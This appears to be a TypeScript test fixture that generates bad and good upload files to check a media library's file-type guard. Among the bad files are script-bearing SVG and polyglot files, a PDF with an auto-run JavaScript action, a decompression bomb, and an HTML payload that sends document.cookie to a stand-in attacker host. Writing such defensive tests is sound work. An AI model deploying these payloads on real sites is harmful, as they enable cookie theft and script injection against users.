// Bad files made in the test, one per way a file can lie about what it is,
// and a good one per kind. Nothing is downloaded; images come from sharp or are
// written byte by byte (a decompression bomb is a header, not 900 megapixels).
import sharp from 'sharp';
import { decompressionBomb, truncated } from '../../archive/files';

export interface CorpusFile {
  name: string;
  buffer: Buffer;
  filename: string;
  contentType: string;
  /** Codes the guard may answer (several when the lie can be seen in more than one way). */
  codes: string[];
}

export const jpeg = (color = '#2a6f97', width = 320, height = 200) =>
  sharp({ create: { width, height, channels: 3, background: color } }).jpeg({ quality: 80 }).toBuffer();
export const png = (color = '#aa3355') => sharp({ create: { width: 64, height: 48, channels: 3, background: color } }).png().toBuffer();

const minimalPdf = (extra = '') =>
  Buffer.from(
    `%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R ${extra} >> endobj\n2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n` +
      `3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n`,
    'latin1'
  );

const INVALID = 'INVALID_FILE_TYPE';
const ACTIVE = 'ACTIVE_CONTENT_REFUSED';

export async function badFiles(): Promise<CorpusFile[]> {
  const realJpeg = await jpeg();
  const realPng = await png();
  const svgScript = Buffer.from('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>');
  const html = Buffer.from('<!doctype html><html><body><script>fetch("https://attacker.invalid/?c="+document.cookie)</script></body></html>');
  return [
    { name: 'HTML named .jpg', buffer: html, filename: 'foto.jpg', contentType: 'image/jpeg', codes: [ACTIVE, INVALID] },
    { name: 'SVG with a script named .png', buffer: svgScript, filename: 'logo.png', contentType: 'image/png', codes: [ACTIVE, INVALID] },
    { name: 'SVG as itself', buffer: svgScript, filename: 'logo.svg', contentType: 'image/svg+xml', codes: [ACTIVE] },
    { name: 'HTML as itself', buffer: html, filename: 'pagina.html', contentType: 'text/html', codes: [ACTIVE] },
    { name: 'truncated JPEG', buffer: truncated(realJpeg), filename: 'cortada.jpg', contentType: 'image/jpeg', codes: ['CORRUPT_FILE'] },
    { name: '30000×30000 PNG bomb', buffer: decompressionBomb(30000), filename: 'bomba.png', contentType: 'image/png', codes: ['TOO_MANY_PIXELS'] },
    {
      name: 'polyglot: JPEG header, HTML after it',
      buffer: Buffer.concat([realJpeg.subarray(0, 20), Buffer.from('<html><script>alert(1)</script></html>'), realJpeg.subarray(20)]),
      filename: 'poliglota.jpg',
      contentType: 'image/jpeg',
      codes: [ACTIVE],
    },
    { name: 'polyglot: GIF header with a script', buffer: Buffer.from('GIF89a/*\x00\x00*/=1;<script>alert(1)</script>', 'latin1'), filename: 'animada.gif', contentType: 'image/gif', codes: [ACTIVE, 'CORRUPT_FILE'] },
    { name: 'polyglot: PDF that is also a page', buffer: Buffer.from('%PDF-1.4\n<html><body><script>alert(1)</script></body></html>\n%%EOF'), filename: 'norma.pdf', contentType: 'application/pdf', codes: [ACTIVE] },
    { name: 'PDF that runs JavaScript when opened', buffer: minimalPdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), filename: 'ordenanza.pdf', contentType: 'application/pdf', codes: [ACTIVE] },
    { name: 'wrong MIME: a PNG declared as JPEG', buffer: realPng, filename: 'imagen.png', contentType: 'image/jpeg', codes: ['FILE_MIME_MISMATCH'] },
    { name: 'wrong extension: a PNG named .jpg', buffer: realPng, filename: 'imagen.jpg', contentType: 'image/jpeg', codes: ['FILE_EXTENSION_MISMATCH', 'FILE_MIME_MISMATCH'] },
    { name: 'a program named .pdf', buffer: Buffer.concat([Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1'), Buffer.alloc(512)]), filename: 'acta.pdf', contentType: 'application/pdf', codes: [INVALID] },
    { name: 'empty file', buffer: Buffer.alloc(0), filename: 'vacio.jpg', contentType: 'image/jpeg', codes: ['EMPTY_FILE', INVALID] },
  ];
}

/** One good file per kind the media library takes: every door must still accept these. */
export async function goodFiles() {
  return [
    { name: 'JPEG photo', buffer: await jpeg('#336699'), filename: 'plaza.jpg', contentType: 'image/jpeg' },
    { name: 'PDF', buffer: minimalPdf(), filename: 'ordenanza-001.pdf', contentType: 'application/pdf' },
    { name: 'CSV', buffer: Buffer.from('nombre;cargo\nRosa;Regidora\n'), filename: 'lista.csv', contentType: 'text/csv' },
  ];
}
